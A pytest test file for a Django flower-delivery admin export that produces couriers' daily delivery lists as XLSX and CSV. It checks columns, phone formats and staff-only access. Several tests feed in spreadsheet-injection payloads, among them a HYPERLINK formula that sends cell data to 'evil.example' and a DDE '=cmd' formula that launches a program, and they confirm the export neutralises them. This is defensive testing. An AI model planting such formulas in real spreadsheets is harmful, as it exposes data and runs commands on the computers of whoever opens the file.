"""The couriers' file of today or tomorrow, as .xlsx and as a ";"-separated CSV: the same columns,
the same neutralised cells (accounts.courier_file, accounts.spreadsheet)."""

import csv
import datetime
import io
from decimal import Decimal
from http import HTTPStatus

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone

from accounts.models import Delivery, Profile

pytestmark = pytest.mark.django_db

HEADER = [
    "Дата",
    "Время",
    "Получатель",
    "Телефон получателя",
    "Адрес",
    "Категория",
    "Пожелания",
    "Записка курьеру",
    "Номер доставки",
    "Оплачено",
]


def tomorrow() -> datetime.date:
    return timezone.localdate() + datetime.timedelta(days=1)


def file_url(day: str, extension: str) -> str:
    return reverse("admin:accounts_delivery_file", args=[day, extension])


def xlsx_rows(client, day: str = "tomorrow") -> list[list]:
    response = client.get(file_url(day, "xlsx"))
    assert response.status_code == HTTPStatus.OK
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def csv_rows(client, day: str = "tomorrow") -> list[list[str]]:
    response = client.get(file_url(day, "csv"))
    assert response.status_code == HTTPStatus.OK
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_tomorrows_xlsx_lists_the_couriers_columns_of_tomorrows_scheduled_deliveries(
    superuser_client, profile_factory, user_factory
):
    profile = profile_factory(
        user_factory(first_name="Анна"),
        first_delivery_date=tomorrow(),
        wishes="Без лилий",
        phone="+79001234567",
    )
    profile_factory(first_delivery_date=tomorrow() + datetime.timedelta(days=1))  # the day after
    skipper = profile_factory(first_delivery_date=tomorrow())
    Delivery.objects.filter(profile=skipper).update(status=Delivery.Status.SKIPPED)
    delivery = profile.deliveries.get(delivery_on=tomorrow())

    response = superuser_client.get(file_url("tomorrow", "xlsx"))
    rows = xlsx_rows(superuser_client)

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert f'filename="deliveries-{tomorrow().isoformat()}.xlsx"' in response["Content-Disposition"]
    assert rows == [
        HEADER,
        [
            datetime.datetime.combine(tomorrow(), datetime.time()),  # a date cell, shown 04.12.2026
            None,
            "Анна",  # nobody else named: the customer, on their phone
            "8 (900) 123-45-67",
            "Москва, ул. Ленина, 25, кв. 10",
            "Романтический",
            "Без лилий",
            None,
            delivery.pk,
            "да",
        ],
    ]


def test_the_csv_is_semicolon_separated_utf8_with_a_bom_and_the_same_columns(
    superuser_client, profile_factory
):
    profile = profile_factory(first_delivery_date=tomorrow(), phone="+79001234567")
    delivery = profile.deliveries.get(delivery_on=tomorrow())

    response = superuser_client.get(file_url("tomorrow", "csv"))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert f'filename="deliveries-{tomorrow().isoformat()}.csv"' in response["Content-Disposition"]
    assert response.content.startswith("\ufeff".encode())  # Excel reads the Cyrillic as UTF-8
    assert response.content.decode("utf-8-sig").splitlines()[0] == ";".join(f'"{h}"' for h in HEADER)
    assert csv_rows(superuser_client)[1] == [
        tomorrow().strftime("%d.%m.%Y"),
        "",
        "",
        "8 (900) 123-45-67",
        "Москва, ул. Ленина, 25, кв. 10",
        "Романтический",
        "Больше зелени, без роз",
        "",
        str(delivery.pk),
        "да",
    ]


def test_both_files_give_a_deliverys_own_courier_details_over_the_profiles(superuser_client, profile_factory):
    profile = profile_factory(first_delivery_date=tomorrow(), phone="+79001234567")
    Profile.objects.filter(pk=profile.pk).update(
        time_window="09-12", entrance="2", floor="5", intercom="25К", courier_note="Позвонить за час"
    )
    Delivery.objects.filter(profile=profile, delivery_on=tomorrow()).update(
        recipient_name="Мама", recipient_phone="+79007654321", time_window="18-21"
    )
    expected = [
        "18:00–21:00",
        "Мама",
        "8 (900) 765-43-21",
        "Москва, ул. Ленина, 25, кв. 10, подъезд 2, этаж 5, домофон 25К",
    ]

    assert xlsx_rows(superuser_client)[1][1:5] == expected
    assert csv_rows(superuser_client)[1][1:5] == expected
    assert xlsx_rows(superuser_client)[1][7] == csv_rows(superuser_client)[1][7] == "Позвонить за час"


def test_paid_says_no_when_the_balance_does_not_cover_the_bouquet(superuser_client, profile_factory):
    profile_factory(first_delivery_date=tomorrow(), paid=False)  # the invoice awaits: balance 0
    profile_factory(first_delivery_date=tomorrow(), account_sum=Decimal("2500.00"))  # exactly the price

    assert sorted(row[9] for row in xlsx_rows(superuser_client)[1:]) == ["да", "нет"]


def test_todays_file_lists_todays_deliveries(superuser_client, profile_factory):
    today = profile_factory(first_delivery_date=timezone.localdate()).deliveries.get(
        delivery_on=timezone.localdate()
    )
    profile_factory(first_delivery_date=tomorrow())

    assert [row[8] for row in xlsx_rows(superuser_client, "today")[1:]] == [today.pk]
    assert [row[8] for row in csv_rows(superuser_client, "today")[1:]] == [str(today.pk)]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Нажми")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
]


@pytest.mark.parametrize("typed", [*FORMULAS, "\t=1+1", "\r=1+1"])
def test_both_files_neutralise_cells_a_spreadsheet_would_run(superuser_client, profile_factory, typed):
    profile = profile_factory(first_delivery_date=tomorrow(), wishes=typed)
    Delivery.objects.filter(profile=profile).update(delivery_address=typed)
    Profile.objects.filter(pk=profile.pk).update(courier_note=typed)

    response = superuser_client.get(file_url("tomorrow", "xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    [_, csv_row] = csv_rows(superuser_client)

    # XML reads a carriage return back as a line feed; the quote in front is what matters.
    assert [sheet.cell(2, n).value for n in (5, 7, 8)] == [f"'{typed}".replace("\r", "\n")] * 3
    assert {sheet.cell(2, n).data_type for n in (5, 7, 8)} == {"s"}  # text, not a formula
    assert [csv_row[n] for n in (4, 6, 7)] == [f"'{typed}"] * 3


def test_both_files_leave_ordinary_text_alone(superuser_client, profile_factory):
    profile_factory(first_delivery_date=tomorrow(), wishes="Розы, 5 шт. = 'много'; без лилий")

    assert (
        xlsx_rows(superuser_client)[1][6]
        == csv_rows(superuser_client)[1][6]
        == "Розы, 5 шт. = 'много'; без лилий"
    )


@pytest.mark.parametrize(
    ("stored", "written"),
    [("+79001234567", "8 (900) 123-45-67"), ("+12025550143", "'+1 202-555-0143")],
)
def test_both_files_write_phones_as_couriers_dial_them(superuser_client, profile_factory, stored, written):
    profile_factory(first_delivery_date=tomorrow(), phone=stored)

    assert xlsx_rows(superuser_client)[1][3] == csv_rows(superuser_client)[1][3] == written


def test_the_xlsx_drops_control_characters_a_workbook_cannot_hold(superuser_client, profile_factory):
    profile = profile_factory(first_delivery_date=tomorrow())
    Profile.objects.filter(pk=profile.pk).update(wishes="Без\x01 лилий\x1b")

    assert xlsx_rows(superuser_client)[1][6] == "Без лилий"


def test_a_tab_typed_before_a_formula_survives_the_form_and_is_neutralised_in_the_files(
    client, superuser, profile_factory
):
    profile = profile_factory(first_delivery_date=tomorrow())
    client.force_login(profile.user)
    data = {
        "bouquet_category": profile.bouquet_category.slug,
        "delivery_address": profile.delivery_address,
        "next_delivery_date": tomorrow().isoformat(),
        "delivery_interval": profile.delivery_interval,
        "wishes": "\r\n\t=cmd|' /C calc'!A0  \r\n",
        "phone": "",
    }

    response = client.post("/account/preferences/", data)

    assert response.status_code == HTTPStatus.FOUND
    client.force_login(superuser)
    assert xlsx_rows(client)[1][6] == csv_rows(client)[1][6] == "'\t=cmd|' /C calc'!A0"


def test_the_files_are_for_staff_only(customer_client):
    response = customer_client.get(file_url("tomorrow", "xlsx"))

    assert response.status_code == HTTPStatus.FOUND
    assert "/login/" in response.url


def test_staff_without_the_view_permission_get_no_file(client, user_factory):
    staff = user_factory(is_staff=True)
    staff.user_permissions.add(Permission.objects.get(codename="view_profile"))
    client.force_login(staff)

    assert client.get(file_url("tomorrow", "csv")).status_code == HTTPStatus.FORBIDDEN


def test_only_today_and_tomorrow_have_files(superuser_client):
    response = superuser_client.get("/admin/accounts/delivery/sheet/yesterday.xlsx", follow=True)

    assert "Content-Disposition" not in response  # the admin's "not found", no file
